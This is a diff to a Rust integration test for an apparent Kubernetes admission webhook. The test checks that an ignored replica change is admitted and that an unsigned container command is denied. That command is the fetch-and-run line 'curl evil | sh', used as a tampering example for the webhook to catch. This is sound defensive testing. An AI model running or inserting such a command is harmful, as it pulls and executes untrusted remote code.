@@ -194,8 +194,18 @@ async fn only_the_signed_manifests_of_a_verified_revision_are_admitted() {
         }
     })
     .await;
-    let enforce = json!({"spec": {"enforcement": {"mode": "enforce"}}});
+    // Enforcing again, with the profile ignoring replicas (an autoscaler's field): that change is admitted,
+    // any other still denied.
+    let enforce = json!({"spec": {"enforcement": {"mode": "enforce",
+        "ignoreFields": [{"fields": ["spec.replicas"], "objects": [{"kind": "Deployment"}]}]}}});
     profiles(&client, &ns).patch("production", &pp, &Patch::Merge(&enforce)).await.unwrap();
+    tampered["spec"]["replicas"] = json!(7);
+    let (c, t) = (&client, &tampered);
+    eventually("replicas ignored", Duration::from_secs(30), || async move { apply(c, t).await }).await;
+    // A field the signed manifest does not have, and that is no default, is denied too.
+    tampered["spec"]["template"]["spec"]["containers"][0]["command"] = json!(["sh", "-c", "curl evil | sh"]);
+    let err = apply(&client, &tampered).await.expect_err("other fields are still enforced");
+    assert!(err.contains("containers.0.command: signed (unset), got [\"sh\""), "{err}");
 
     // The webhook down: failurePolicy Fail denies everything it covers; Ignore admits.
     assert_eq!(webhook.terminate(Duration::from_secs(10)).await, Some(0), "stops cleanly on SIGTERM");
